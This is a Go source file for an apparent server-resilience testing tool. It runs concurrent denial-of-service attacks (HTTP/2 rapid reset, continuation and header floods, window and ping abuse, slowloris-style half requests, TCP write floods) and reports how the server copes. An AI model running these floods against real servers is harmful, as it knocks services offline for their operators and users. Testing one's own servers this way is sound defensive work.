package traffic

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"sync"
	"time"
)

// Attack is an action of a client that costs the server more than the client. Kind is the action on each connection:
//
//	"window"        sends a request on every stream and reads Window bytes of the answers, and Drip bytes each second
//	"reset"         opens streams and resets each after Delay
//	"headers"       opens streams with Bytes of header each, and ends none
//	"continuation"  begins a header and never ends it
//	"upload"        sends a body without end on every stream
//	"ping"          requests acknowledgements and reads none
//	"half"          HTTP/1.1: sends half a header
//	"slow"          HTTP/1.1: sends a request and reads nothing of the answer
//	"deaf"          TCP: writes without end and reads nothing
//	"idle"          nothing
//
// Each action ends after For.
type Attack struct {
	Probe
	Connections int           `json:"connections,omitempty"` // 1
	Streams     int           `json:"streams,omitempty"`     // on each connection: as many as the server allows
	GRPC        bool          `json:"grpc,omitempty"`        // requests are calls of gRPC with Body as the only message
	Window      uint32        `json:"window,omitempty"`
	Drip        uint32        `json:"drip,omitempty"`
	Bytes       int           `json:"bytes,omitempty"`
	Delay       time.Duration `json:"delay,omitempty"`
	Waves       int           `json:"waves,omitempty"` // "reset": number of waves, one after the other, at the interval Every
}

// Report has the results of an attack.
type Report struct {
	Connections int            `json:"connections"` // those that were opened
	Streams     int            `json:"streams"`
	Outcomes    map[string]int `json:"outcomes"` // of streams: the status, or the code of a reset
	Ends        map[string]int `json:"ends"`     // reasons for connections that the server rejected or closed
	Ended       int            `json:"ended"`    // connections that were open and that the server ended
	Lived       time.Duration  `json:"lived"`    // the longest life of one of them
	Sent        int64          `json:"sent"`
	Received    int64          `json:"received"`
	// What the server announces.
	MaxStreams uint32 `json:"maxStreams"`
	MaxWindow  uint32 `json:"maxWindow"`

	lock sync.Mutex
}

func (r *Report) String() string {
	text := fmt.Sprintf("%d connections, %d streams, %.1f MB sent, %.1f MB received", r.Connections, r.Streams, float64(r.Sent)/1e6, float64(r.Received)/1e6)
	if len(r.Outcomes) > 0 {
		text += fmt.Sprintf(", streams %v", r.Outcomes)
	}
	if len(r.Ends) > 0 {
		text += fmt.Sprintf(", ended by the server %v, the last after %.1f s", r.Ends, r.Lived.Seconds())
	}
	return text
}

// RunAttack reads an array of plans from in, runs all at once, and writes the reports to out.
func RunAttack(in io.Reader, out io.Writer) error {
	var plans []Attack
	if err := json.NewDecoder(in).Decode(&plans); err != nil {
		return fmt.Errorf("plans: %w", err)
	}
	return json.NewEncoder(out).Encode(Assault(context.Background(), plans))
}

// Assault runs all attacks at once.
func Assault(ctx context.Context, plans []Attack) []*Report {
	reports := make([]*Report, len(plans))
	var waiting sync.WaitGroup
	for i, plan := range plans {
		reports[i] = &Report{Outcomes: map[string]int{}, Ends: map[string]int{}}
		waiting.Go(func() { plan.run(ctx, reports[i]) })
	}
	waiting.Wait()
	return reports
}

// handshakes is how many connections are opened at once.
const handshakes = 32

func (a Attack) run(ctx context.Context, report *Report) {
	ctx, cancel := context.WithTimeout(ctx, a.For)
	defer cancel()
	conduct := a.conduct()
	if conduct == nil {
		report.end(fmt.Sprintf("other: no such kind of attack: %q", a.Kind), 0)
		return
	}
	slots := make(chan struct{}, handshakes)
	var waiting sync.WaitGroup
	for range max(1, a.Connections) {
		waiting.Go(func() {
			slots <- struct{}{}
			c, why := a.connect(ctx)
			<-slots
			if c == nil {
				report.end(why, 0)
				return
			}
			defer c.Close()
			defer context.AfterFunc(ctx, func() { c.SetDeadline(time.Unix(1, 0)) })()
			report.count(func() { report.Connections++ })
			began := time.Now()
			if err := conduct(ctx, c, report); err != nil && ctx.Err() == nil {
				report.end(describe(ctx, err), time.Since(began))
				report.count(func() { report.Ended++ })
			}
		})
	}
	waiting.Wait()
}

func (a Attack) connect(ctx context.Context) (*connection, string) {
	p := a.Probe
	p.Kind = "raw"
	if a.overHTTP2() {
		p.Kind = "h2"
	}
	within, cancel := context.WithTimeout(ctx, p.timeout())
	defer cancel()
	c, answer := connect(within, p, nil)
	if c == nil {
		return nil, answer.Error
	}
	return c, ""
}

func (a Attack) overHTTP2() bool {
	switch a.Kind {
	case "half", "slow", "deaf":
		return false
	}
	return true
}

func (a Attack) conduct() func(context.Context, *connection, *Report) error {
	switch a.Kind {
	case "half":
		return a.half
	case "slow":
		return a.slow
	case "deaf":
		return a.deaf
	case "window", "reset", "headers", "continuation", "upload", "ping", "idle":
		return a.frames
	}
	return nil
}

// half sends the beginning of a request.
func (a Attack) half(ctx context.Context, c *connection, report *Report) error {
	text := fmt.Sprintf("GET %s HTTP/1.1\r\nHost: %s\r\nX-Half: ", a.target(), a.host())
	n, err := io.WriteString(c.Conn, text)
	report.count(func() { report.Sent += int64(n) })
	if err != nil {
		return err
	}
	return report.drain(c)
}

// slow sends a request and reads nothing of the answer.
func (a Attack) slow(ctx context.Context, c *connection, report *Report) error {
	n, err := c.Write(a.http1Request())
	report.count(func() { report.Sent += int64(n) })
	if err != nil {
		return err
	}
	<-ctx.Done()
	return nil
}

// deaf writes until the other side accepts no more data, and reads nothing.
func (a Attack) deaf(ctx context.Context, c *connection, report *Report) error {
	data := make([]byte, 64<<10)
	for {
		n, err := c.Write(data)
		report.count(func() { report.Sent += int64(n) })
		if err != nil {
			return err
		}
	}
}

func (r *Report) count(change func()) {
	r.lock.Lock()
	defer r.lock.Unlock()
	change()
}

func (r *Report) end(why string, lived time.Duration) {
	r.count(func() {
		r.Ends[Answer{Error: why}.Outcome()]++
		r.Lived = max(r.Lived, lived)
	})
}

// drain reads until the connection ends.
func (r *Report) drain(c *connection) error {
	data := make([]byte, 32<<10)
	for {
		n, err := c.reader.Read(data)
		r.count(func() { r.Received += int64(n) })
		if err != nil {
			return err
		}
	}
}
